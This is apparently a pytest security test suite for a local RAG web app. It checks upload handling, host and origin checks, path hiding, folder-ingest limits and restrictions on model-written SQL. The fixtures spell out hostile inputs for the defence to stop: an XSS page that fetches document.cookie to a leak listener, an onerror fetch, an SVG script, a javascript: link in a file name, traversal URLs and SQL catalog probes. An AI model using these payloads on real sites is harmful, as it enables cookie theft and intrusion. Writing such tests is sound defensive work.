"""The app against a real `mmrag serve` on 127.0.0.1: what it serves, to which host, within which limits.

* an uploaded .html is stored but never served (every file route, every spelling), and what Gradio's own
  upload cache sends goes out as an attachment with nosniff: in a real browser it runs no script;
* .svg and other types mmrag does not ingest are refused at upload;
* Host `evil.example` and a foreign Origin are refused; the page carries a Content-Security-Policy;
* the library's absolute path is not in the page, the API's results, or error messages;
* folder ingest is off without --folder-root; symlinks out of an allowed folder are not followed, and a
  path outside gets the same answer whether or not it exists;
* a non-loopback --host without --auth refuses to start.
"""
from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pytest

from tests.conftest import ROOT, SAMPLES

from .conftest import free_port, text_only_config
from .test_app_client import call_raw
from .test_browser import ARGS, CHROMIUM, open_app

pytestmark = pytest.mark.slow
ENV = {**os.environ, "PYTHONPATH": str(ROOT), "HF_HUB_OFFLINE": "1"}
PAGE = b"<html><body><script>alert('xss'); fetch('http://127.0.0.1:%d/leak?c=' + document.cookie)</script>" \
       b"<img src=x onerror=\"fetch('http://127.0.0.1:%d/leak2')\">evil page</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


class Leaks(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        Leaks.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def leak_port():
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Leaks)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv.server_address[1]
    srv.shutdown()


def _serve(lib: Path, *args: str) -> tuple[subprocess.Popen, str]:
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "mmrag", "serve", "--library", str(lib), "--port", str(port),
                             "--generator", "extractive", *args], env=ENV, cwd=ROOT, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True)
    url = f"http://127.0.0.1:{port}/"
    deadline = time.time() + 120
    while time.time() < deadline:
        if proc.poll() is not None:
            raise AssertionError(proc.stdout.read())
        try:
            if httpx.get(url, timeout=2).status_code == 200:
                return proc, url
        except httpx.HTTPError:
            time.sleep(0.3)
    proc.kill()
    raise AssertionError("mmrag serve did not start")


@pytest.fixture(scope="module")
def server(tmp_path_factory, leak_port):
    from mmrag import Library
    base = tmp_path_factory.mktemp("secure")
    lib = base / "lib"
    Library(lib, config=text_only_config("hash")).close()
    allowed = base / "allowed"
    (allowed / "docs").mkdir(parents=True)
    (allowed / "docs" / "ok.txt").write_text("The granite quarry opens at dawn.")
    secret = base / "secret.txt"
    secret.write_text("The wolfram passphrase is swordfish.")
    os.symlink(secret, allowed / "docs" / "link.txt")
    os.symlink(base, allowed / "up")
    proc, url = _serve(lib, "--folder-root", str(allowed))
    yield {"url": url, "lib": lib, "allowed": allowed, "secret": secret, "base": base, "leak": leak_port}
    proc.terminate()
    proc.wait(30)


def _upload(url: str, name: str, data: bytes, mime: str) -> tuple[str, object, str]:
    r = httpx.post(f"{url}gradio_api/upload", files=[("files", (name, data, mime))])
    assert r.status_code == 200, r.text
    [tmp] = r.json()
    event, payload = call_raw(url, "ingest_uploads",
                              [[{"path": tmp, "orig_name": name, "meta": {"_type": "gradio.FileData"}}]])
    return event, payload, tmp


def test_uploaded_html_is_stored_but_never_served_inline(server):
    url, lib, leak = server["url"], server["lib"], server["leak"]
    event, payload, tmp = _upload(url, "x.html", PAGE % (leak, leak), "text/html")
    assert event == "complete", payload
    stored = lib / "uploads" / "x.html"
    assert stored.is_file()
    targets = [str(stored), f"{lib}/thumbs/../uploads/x.html", f"{lib}/media/../uploads/x.html"]
    routes = ["gradio_api/file=", "file=", "gradio_api/file/", "file/"]
    for target in targets:
        for route in routes:
            for t in (target, target.replace("/", "%2F"), target.replace(".", "%2E")):
                r = httpx.get(f"{url}{route}{t}")
                assert r.status_code in (403, 404), (route, t, r.status_code)
    for rel in ("uploads/x.html", "thumbs/../uploads/x.html", "../lib/uploads/x.html", "..%2Fuploads%2Fx.html"):
        r = httpx.get(f"{url}mmrag/media/{rel}")
        assert r.status_code in (403, 404), (rel, r.status_code)
    cached = httpx.get(f"{url}gradio_api/file={tmp}")  # Gradio's own upload cache: sent, but never inline
    assert cached.status_code == 200 and b"evil page" in cached.content
    assert cached.headers["content-disposition"].startswith("attachment")
    assert cached.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in cached.headers["content-security-policy"]


def test_svg_and_unknown_types_are_refused_at_upload(server):
    for name, data in (("x.svg", SVG), ("run.sh", b"echo hi"), ("page.xhtm", b"<p>hi</p>")):
        event, payload, _ = _upload(server["url"], name, data, "application/octet-stream")
        assert event == "error" and "does not ingest" in json.dumps(payload), (name, payload)
        assert not (server["lib"] / "uploads" / name).exists()


def test_a_browser_opening_the_uploaded_page_runs_no_script(server):
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian chromium is not installed")
    url, leak = server["url"], server["leak"]
    _, _, tmp = _upload(url, "y.html", PAGE % (leak, leak), "text/html")
    Leaks.hits.clear()
    dialogs: list[str] = []
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        page = browser.new_context(accept_downloads=True).new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        try:
            page.goto(f"{url}gradio_api/file={tmp}", wait_until="load", timeout=15_000)
        except sync_api.Error:
            pass  # a download, not a page: that is the point
        open_app(page, url)  # the app itself works under its CSP
        assert page.locator("#ask-box").count() == 1
        page.wait_for_timeout(1500)
        browser.close()
    assert dialogs == [] and Leaks.hits == [], (dialogs, Leaks.hits)


def test_foreign_host_and_origin_are_refused(server):
    url = server["url"]
    assert httpx.get(url, headers={"Host": "evil.example"}).status_code == 403
    assert httpx.get(f"{url}config", headers={"Host": "evil.example:7860"}).status_code == 403
    r = httpx.post(f"{url}gradio_api/call/search", json={"data": []}, headers={"Origin": "http://evil.example"})
    assert r.status_code == 403
    page = httpx.get(url)
    assert page.status_code == 200 and "frame-ancestors 'none'" in page.headers["content-security-policy"]
    assert httpx.get(url, headers={"Host": "localhost"}).status_code == 200


def test_the_library_path_is_not_shown(server):
    url, lib = server["url"], server["lib"]
    assert str(lib) not in httpx.get(url).text and str(lib) not in httpx.get(f"{url}config").text
    event, payload = call_raw(url, "library_status", [])
    assert event == "complete" and str(lib) not in json.dumps(payload)
    event, payload = call_raw(url, "moments", ["library/uploads/none.mp4", "anything", 3])
    assert event == "error" and str(lib) not in json.dumps(payload)


def test_folder_ingest_stays_inside_its_root(server):
    url, allowed, secret, base = server["url"], server["allowed"], server["secret"], server["base"]
    event, payload = call_raw(url, "ingest_folder", [str(allowed / "docs")])
    assert event == "complete", payload
    text = json.dumps(payload)
    assert "1 ok" in text and "outside the folders being ingested" in text  # the symlinked secret
    event, payload = call_raw(url, "search", [{"text": "wolfram swordfish", "files": []}, [], 5, "", False])
    assert event == "complete" and "swordfish" not in json.dumps(payload)
    answers = []
    for path in (str(base / "nowhere"), str(secret.parent), str(allowed / "up"), "/etc", "/definitely/not/here"):
        event, payload = call_raw(url, "ingest_folder", [path])
        assert event == "error", (path, payload)
        answers.append(json.dumps(payload).replace(json.dumps(path)[1:-1], "PATH"))
    assert len(set(answers)) == 1, answers  # the same words whether the path exists or not


def test_folder_ingest_is_off_without_folder_root(tmp_path):
    from mmrag import Library
    lib = tmp_path / "lib"
    Library(lib, config=text_only_config("hash")).close()
    proc, url = _serve(lib)
    try:
        event, payload = call_raw(url, "ingest_folder", [str(SAMPLES)])
        assert event == "error" and "--folder-root" in json.dumps(payload)
    finally:
        proc.terminate()
        proc.wait(30)


def test_a_public_address_needs_a_login(tmp_path):
    out = subprocess.run([sys.executable, "-m", "mmrag", "serve", "--library", str(tmp_path / "lib"), "--host",
                          "0.0.0.0", "--port", str(free_port())], env=ENV, cwd=ROOT, capture_output=True, text=True,
                         timeout=120)
    assert out.returncode == 2 and "--auth" in out.stderr and "Traceback" not in out.stderr, out.stderr


def test_huge_k_and_long_questions_are_bounded_below_the_widgets(tmp_path):
    from mmrag import BadQueryError, Library
    from ui.service import MAX_K, LibraryService, Settings, UserError
    docs = tmp_path / "docs"
    docs.mkdir()
    for i in range(60):
        (docs / f"d{i}.txt").write_text(f"note number {i} about granite and harbours")
    with Library(tmp_path / "lib", config=text_only_config("hash")) as lib:
        lib.ingest([docs])
        assert len(lib.search("granite", k=10**9)) == 60  # clamped, not refused
        with pytest.raises(BadQueryError, match="limit"):
            lib.search("granite " * 5000)
    service = LibraryService(Settings(library=tmp_path / "lib", generator="extractive", warm_up=False))
    try:
        assert len(service.search("granite", k=10**9)) == MAX_K
        with pytest.raises(UserError, match="limit is 2000"):
            next(service.ask_stream("why " * 1000))
    finally:
        service.close()


def test_unexpected_errors_reach_clients_without_their_text():
    from ui.web import _as_gr_error, hide_path
    hide_path("/srv/secret-lib")
    err = _as_gr_error(KeyError("/srv/secret-lib/store.sqlite internals"))
    assert "internal error (ref" in str(err) and "secret" not in str(err)
    from mmrag import BadQueryError
    assert "/srv/secret-lib" not in str(_as_gr_error(BadQueryError("x is not in /srv/secret-lib")))


def test_file_names_cannot_inject_markdown():
    from mmrag import IngestReport
    from mmrag.ingest.report import FileResult
    from ui.library_tab import report_md
    report = IngestReport([FileResult("/d/a`](javascript:alert(1))`.txt", "failed", message="empty <b>x</b>")])
    md = report_md(report)
    assert "<code>/d/a`](javascript:alert(1))`.txt</code>" in md and "<b>" not in md


def test_model_written_sql_cannot_reach_the_catalog_or_spill(tmp_path):
    from mmrag.tables import SQLError, SQLRefused, TableDB
    with TableDB(tmp_path / "t.duckdb") as db:
        tid = db.add_rows(["n"], [[i] for i in range(10)], source="nums")
        for sql in ("SELECT * FROM pragma_database_list()", "SELECT path FROM duckdb_databases()",
                    "SELECT current_setting('temp_directory')", "SELECT * FROM information_schema.tables"):
            with pytest.raises(SQLRefused, match="not allowed"):
                db.query(sql)
        assert db.query(f'SELECT COUNT(*) AS "version" FROM {tid}').rows == [(10,)]  # a column may be so named
        with pytest.raises(SQLError):  # over memory_limit: fails, never spills to disk
            db.query("SELECT i, count(*) FROM range(300000000) t(i) GROUP BY i LIMIT 1", timeout=120)
    assert not list(tmp_path.glob("*.tmp")) and not list(tmp_path.glob("*.duckdb.tmp"))

